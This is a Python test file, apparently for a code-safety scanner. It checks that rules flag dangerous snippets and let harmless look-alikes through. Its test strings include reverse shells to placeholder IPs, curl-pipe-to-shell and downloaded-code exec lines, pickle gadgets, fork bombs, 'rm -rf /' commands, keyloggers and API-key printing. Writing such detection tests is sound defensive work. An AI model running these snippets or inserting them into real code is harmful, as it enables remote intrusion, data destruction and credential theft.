"""Python that runs code or commands, ends processes or reaches below Python; each harm beside an honest twin."""

from __future__ import annotations

import pytest

from ..conftest import Effect, Rules

SHELLS = [
    pytest.param(
        "import socket,subprocess,os\ns=socket.socket()\ns.connect(('10.0.0.1',4))\nos.dup2(s.fileno(),0)\nsubprocess.call(['sh','-i'])",
        id="dup2",
    ),
    pytest.param("import socket,pty\ns=socket.socket()\ns.connect(('1.2.3.4',1))\npty.spawn('/bin/sh')", id="pty"),
    pytest.param("import socket,subprocess\ns=socket.create_connection(('a.b',1))\nsubprocess.Popen('sh',stdin=s,stdout=s)", id="streams"),
    pytest.param("import os\nos.system('bash -i >& /dev/tcp/1.2.3.4/9 0>&1')", id="shell in a shell"),
    pytest.param("import subprocess as sp\nsp.Popen(['nc','-e','/bin/sh','1.2.3.4','9'])", id="netcat"),
]


@pytest.mark.parametrize("source", SHELLS)
def test_a_shell_on_the_network(source: str, rules: Rules) -> None:
    assert "021" in rules(source)


@pytest.mark.parametrize(
    "source",
    [
        pytest.param("import requests\nexec(requests.get('https://x.com/a.py').text)", id="exec of an answer"),
        pytest.param("import urllib.request as u\neval(compile(u.urlopen('http://x').read(), 'x', 'exec'))", id="compile of an answer"),
        pytest.param(
            "import socket,subprocess\ns=socket.socket()\ns.connect(('1.2.3.4',1))\nsubprocess.run(s.recv(99),shell=True)", id="received"
        ),
        pytest.param(
            "import urllib.request\nurllib.request.urlretrieve('http://x/a.sh','a.sh')\nimport os\nos.system('bash a.sh')",
            id="stored, then run",
        ),
        pytest.param("import requests\nopen('m.py','w').write(requests.get('http://x').text)\nimport m", id="stored, then imported"),
        pytest.param("import pickle,requests\npickle.loads(requests.get('http://x').content)", id="unpickled"),
        pytest.param("import os\nos.system('curl -s http://x | sh')", id="in the shell"),
        pytest.param("import os\nos.execvp('bash',['bash','-c','curl http://a|bash'])", id="by exec"),
        pytest.param(
            "import asyncio\nasync def main():\n    await asyncio.create_subprocess_shell('wget -qO- http://x|sh')\nasyncio.run(main())",
            id="asyncio",
        ),
        pytest.param(
            "import subprocess\np=subprocess.Popen(['sh'],stdin=-1)\nimport requests\np.communicate(requests.get('http://x').content)",
            id="fed",
        ),
    ],
)
def test_running_what_came_from_the_network(source: str, rules: Rules) -> None:
    assert "010" in rules(source)


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        pytest.param("import base64\nexec(base64.b64decode(blob))", "011", id="decoded code"),
        pytest.param("import marshal,base64\nexec(marshal.loads(base64.b64decode('4wAAAAA')))", "011", id="marshaled code"),
        pytest.param("eval(input())", "012", id="typed code"),
        pytest.param("def f(x):\n    return eval(x)", "012", id="code from an argument"),
        pytest.param("import os\ngetattr(os, name + 'tem')\ngetattr(os, 'sys' + 'tem')('ls')", "013", id="hidden call"),
        pytest.param("import os\nhandlers.register('x', os.system)", "014", id="handed over"),
        pytest.param("import pickle\npickle.load(open('x.pkl','rb'))", "015", id="unpickling"),
        pytest.param("import yaml\nyaml.load(text)", "015", id="unsafe YAML"),
        pytest.param("import os\nclass X:\n    def __reduce__(self):\n        return (os.system,('id',))", "016", id="gadget"),
        pytest.param("import ctypes\nctypes.CDLL('libc.so.6')", "017", id="native code"),
        pytest.param("import subprocess\nsubprocess.run(args)", "020", id="unknown command"),
        pytest.param("import os\nos.kill(1234, 9)", "022", id="kill"),
        pytest.param("import psutil\nfor p in psutil.process_iter():\n    p.kill()", "023", id="kill what is found"),
        pytest.param("import os\nwhile True:\n    os.fork()", "024", id="fork bomb"),
        pytest.param("import subprocess\nwhile True:\n    subprocess.Popen(['x'])", "024", id="spawn bomb"),
        pytest.param("import threading\nwhile 1:\n    threading.Thread(target=print).start()", "024", id="thread bomb"),
        pytest.param("x = 'A' * 10**10", "025", id="memory"),
        pytest.param("x = []\nwhile True:\n    x.append('a')", "025", id="memory without end"),
        pytest.param("f = open('a', 'w')\nwhile True:\n    f.write('a')", "025", id="disk without end"),
        pytest.param("eval(\"__import__('os').system('ls')\")", "018", id="a text that acts"),
        pytest.param("def run(c):\n    exec(c)\nrun('import os; os.listdir(\".\")')", "018", id="a text that acts, handed on"),
        pytest.param("import os\nos.setuid(0)", "026", id="root"),
        pytest.param("import os\nos.chroot('/x')", "027", id="chroot"),
        pytest.param("from pynput import keyboard", "032", id="keys"),
        pytest.param("import pyautogui\npyautogui.screenshot()", "032", id="screen"),
        pytest.param("import os\nprint(os.environ)", "069", id="environment printed"),
        pytest.param("import os\nfor k, v in os.environ.items():\n    print(k, v)", "069", id="environment printed item by item"),
        pytest.param("import os\nprint(os.environ['OPENAI_API_KEY'])", "070", id="key printed"),
        pytest.param("import timeit\ntimeit.timeit('import os; os.system(\"rm -rf /\")')", "047", id="code in a timer"),
        pytest.param("import ctypes\nctypes.CDLL('libc.so.6').system(b'rm -rf /')", "047", id="a command through native code"),
    ],
)
def test_each_capability_has_its_rule(source: str, rule: str, rules: Rules) -> None:
    assert rule in rules(source)


@pytest.mark.parametrize(
    "source",
    [
        pytest.param("import subprocess,sys\nsubprocess.check_call([sys.executable,'-m','pip','install','pandas'])", id="pip install"),
        pytest.param("import os\nos.system('pip install yfinance')", id="pip in the shell"),
        pytest.param("import subprocess\nprint(subprocess.run(['ls','-la'],capture_output=True).stdout)", id="a listing"),
        pytest.param("import subprocess\np=subprocess.Popen(['sleep','1'])\np.terminate()\np.kill()", id="ending its own process"),
        pytest.param("import os,signal\nos.kill(os.getpid(), signal.SIGTERM)", id="ending itself"),
        pytest.param("import pickle\nassert pickle.loads(pickle.dumps([1])) == [1]", id="pickle there and back"),
        pytest.param("import yaml\nyaml.load(open('a.yaml'), Loader=yaml.SafeLoader)\nyaml.safe_load('a: 1')", id="safe YAML"),
        pytest.param("eval('1 + 1')\nexec('x = 1')\nast.literal_eval(x)", id="known expressions"),
        pytest.param(
            "import os,subprocess\nenv=os.environ.copy()\nenv['A']='1'\nsubprocess.run(['pytest'],env=env)", id="an environment passed on"
        ),
        pytest.param("import os\nprint(os.environ['PATH'], os.getenv('HOME'), 'KEY' in os.environ)", id="variables that are no keys"),
        pytest.param("import os\nos.environ['OPENAI_API_KEY'] = 'x'", id="setting a key"),
        pytest.param(
            "import os\nclient = OpenAI(api_key=os.environ['OPENAI_API_KEY'])\nprint(client.chat('hello'))", id="a client with a key"
        ),
        pytest.param("import threading\nts=[threading.Thread(target=print) for _ in range(4)]\nfor t in ts: t.start()", id="a few threads"),
        pytest.param("import time\nwhile True:\n    time.sleep(1)\n    if done(): break", id="waiting"),
        pytest.param("import psutil\nprint(psutil.cpu_percent())", id="load of the machine"),
        pytest.param("import base64\nopen('img.png','wb').write(base64.b64decode('aGVsbG8='))", id="a decoded picture"),
        pytest.param("import importlib\nimportlib.import_module('numpy')", id="import by name"),
        pytest.param("getattr(obj, 'na' + 'me')\nsetattr(obj, 'x', 1)", id="attributes by name"),
        pytest.param("list(map(str, [1, 2]))\nsorted([1], key=lambda x: -x)", id="functions handed over"),
        pytest.param("import cv2\ncv2.VideoCapture('film.mp4')", id="a film"),
    ],
)
def test_honest_twins_are_let_through(source: str, effect: Effect) -> None:
    assert effect(source) == "allow"
